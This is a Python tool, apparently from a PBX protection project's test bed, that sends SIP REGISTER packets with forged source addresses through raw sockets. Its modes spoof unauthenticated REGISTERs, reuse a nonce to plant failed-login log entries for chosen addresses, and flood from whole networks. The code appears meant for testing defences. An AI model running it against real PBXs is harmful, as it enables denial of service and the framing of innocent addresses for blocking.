# -*- coding: utf-8 -*-
# Copyright: (c) 2026, voipguard.pbx contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
"""sip-forge: SIP REGISTERs over UDP with a forged source address, as an attacker sends them.

Installed as /usr/local/bin/sip-forge in the SIP test bed's client containers (needs CAP_NET_RAW, which
Docker gives by default). Packets are built by hand (IPv4 header, UDP header, SIP text) and sent through
a raw socket, so the PBX sees them coming from --source; its answers go to that address, not to us.

Modes:
  bare-ip    REGISTER to sip:<pbx address> without credentials: FreeSWITCH challenges it and logs
             "SIP auth challenge (REGISTER) ... for [user@<pbx address>] from ip <source>".
  password   fetch a nonce from our own address (a REGISTER, the 401's WWW-Authenticate), then send
             REGISTERs answering it with a wrong password from the forged source. FreeSWITCH does not tie
             a nonce to the address that received it, so it logs "SIP auth failure ... from ip <source>".

Each forged source may be an address, a network (every host address in it, capped by --count), or
several of them; --count packets go to each source ("--sources-from 10.0.0.0/16 --count 1" is a flood
of distinct sources).

Examples:
  sip-forge --target 192.0.2.10 --source 192.0.2.20 --mode bare-ip --count 3
  sip-forge --target 192.0.2.10 --source 192.0.2.20 --mode password --user 1000 --domain pbx.example.com --count 5
  sip-forge --target 192.0.2.10 --sources-from 10.66.0.0/20 --limit 3000 --mode bare-ip --rate 1000

Prints one summary line: "sent=N sources=M elapsed=S nonce=yes|no".
"""

from __future__ import absolute_import, division, print_function

import argparse
import hashlib
import ipaddress
import random
import re
import socket
import struct
import sys
import time

__metaclass__ = type

NONCE_RE = re.compile(r'^WWW-Authenticate:\s*Digest\s+(?P<params>.*)$', re.M | re.I)
PARAM_RE = re.compile(r'(\w+)="?([^",]*)"?')


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4_udp_packet(source, source_port, destination, destination_port, payload):
    """An IPv4 datagram with a UDP header (checksum included) around payload."""
    src, dst = socket.inet_aton(source), socket.inet_aton(destination)
    udp_length = 8 + len(payload)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_length)
    udp = struct.pack("!HHHH", source_port, destination_port, udp_length, 0)
    udp_sum = checksum(pseudo + udp + payload) or 0xFFFF
    udp = struct.pack("!HHHH", source_port, destination_port, udp_length, udp_sum)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_length, random.randint(0, 0xFFFF), 0, 64,
                         socket.IPPROTO_UDP, 0, src, dst)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp + payload


def register_text(target, target_port, source, source_port, user, domain, call_id, cseq, authorization=None):
    lines = [
        "REGISTER sip:%s SIP/2.0" % domain,
        "Via: SIP/2.0/UDP %s:%d;branch=z9hG4bK%08x;rport" % (source, source_port, random.getrandbits(32)),
        "Max-Forwards: 70",
        "From: <sip:%s@%s>;tag=%08x" % (user, domain, random.getrandbits(32)),
        "To: <sip:%s@%s>" % (user, domain),
        "Call-ID: %s" % call_id,
        "CSeq: %d REGISTER" % cseq,
        "Contact: <sip:%s@%s:%d>" % (user, source, source_port),
        "Expires: 3600",
        "User-Agent: voipguard-sip-forge",
    ]
    if authorization:
        lines.append("Authorization: %s" % authorization)
    lines.append("Content-Length: 0")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("ascii")


def fetch_challenge(target, port, user, domain, timeout):
    """REGISTER from our own address; return the digest parameters of the 401 (realm, nonce, ...)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(timeout)
        sock.connect((target, port))
        own, own_port = sock.getsockname()
        sock.send(register_text(target, port, own, own_port, user, domain, "forge-%x@%s" % (random.getrandbits(48), own), 1))
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            answer = sock.recv(65535).decode("utf-8", "replace")
            found = NONCE_RE.search(answer)
            if answer.startswith("SIP/2.0 401") and found:
                return dict(PARAM_RE.findall(found.group("params")))
    raise SystemExit("sip-forge: no 401 with a digest challenge from %s:%d" % (target, port))


def digest_authorization(challenge, user, password, domain, method="REGISTER"):
    uri = "sip:%s" % domain
    realm, nonce = challenge.get("realm", domain), challenge["nonce"]
    ha1 = hashlib.md5(("%s:%s:%s" % (user, realm, password)).encode()).hexdigest()
    ha2 = hashlib.md5(("%s:%s" % (method, uri)).encode()).hexdigest()
    if "auth" in challenge.get("qop", "").split(","):
        cnonce, nc = "%08x" % random.getrandbits(32), "00000001"
        response = hashlib.md5(("%s:%s:%s:%s:auth:%s" % (ha1, nonce, nc, cnonce, ha2)).encode()).hexdigest()
        return ('Digest username="%s", realm="%s", nonce="%s", uri="%s", response="%s", algorithm=MD5, '
                'qop=auth, nc=%s, cnonce="%s"' % (user, realm, nonce, uri, response, nc, cnonce))
    response = hashlib.md5(("%s:%s:%s" % (ha1, nonce, ha2)).encode()).hexdigest()
    return 'Digest username="%s", realm="%s", nonce="%s", uri="%s", response="%s", algorithm=MD5' % (
        user, realm, nonce, uri, response)


def forged_sources(args):
    sources = list(args.source or [])
    for network in args.sources_from or []:
        hosts = ipaddress.ip_network(network, strict=False).hosts()
        for host in hosts:
            if args.limit and len(sources) >= args.limit:
                break
            sources.append(str(host))
    return sources


def parse_args(argv):
    parser = argparse.ArgumentParser(prog="sip-forge", description=__doc__.split("\n\n", maxsplit=1)[0])
    parser.add_argument("--target", required=True, help="IPv4 address of the PBX")
    parser.add_argument("--port", type=int, default=5060)
    parser.add_argument("--source", action="append", help="forged source address (repeatable)")
    parser.add_argument("--sources-from", action="append", help="forge every host address of this network")
    parser.add_argument("--limit", type=int, default=0, help="at most this many sources from --sources-from")
    parser.add_argument("--source-port", type=int, default=5060)
    parser.add_argument("--mode", choices=("bare-ip", "password"), required=True)
    parser.add_argument("--user", default="1000")
    parser.add_argument("--password", default="not-the-password")
    parser.add_argument("--domain", default=None, help="SIP domain (password mode; bare-ip always uses the target)")
    parser.add_argument("--count", type=int, default=1, help="packets per forged source")
    parser.add_argument("--rate", type=float, default=0, help="packets a second (0: as fast as possible)")
    parser.add_argument("--timeout", type=float, default=3.0)
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(sys.argv[1:] if argv is None else argv)
    sources = forged_sources(args)
    if not sources or args.count < 1:
        sys.stderr.write("sip-forge: give --source or --sources-from, and --count >= 1\n")
        return 2
    domain = args.target if args.mode == "bare-ip" else (args.domain or args.target)
    authorization = None
    if args.mode == "password":
        authorization = digest_authorization(fetch_challenge(args.target, args.port, args.user, domain, args.timeout),
                                             args.user, args.password, domain)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    started = time.monotonic()
    try:
        for round_number in range(args.count):
            for source in sources:
                call_id = "forge-%x@%s" % (random.getrandbits(48), source)
                payload = register_text(args.target, args.port, source, args.source_port, args.user, domain, call_id,
                                        round_number + 2, authorization)
                raw.sendto(ipv4_udp_packet(source, args.source_port, args.target, args.port, payload), (args.target, 0))
                sent += 1
                if args.rate:
                    delay = started + sent / args.rate - time.monotonic()
                    if delay > 0:
                        time.sleep(delay)
    finally:
        raw.close()
    print("sent=%d sources=%d elapsed=%.3f nonce=%s" % (sent, len(sources), time.monotonic() - started,
                                                        "yes" if authorization else "no"), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
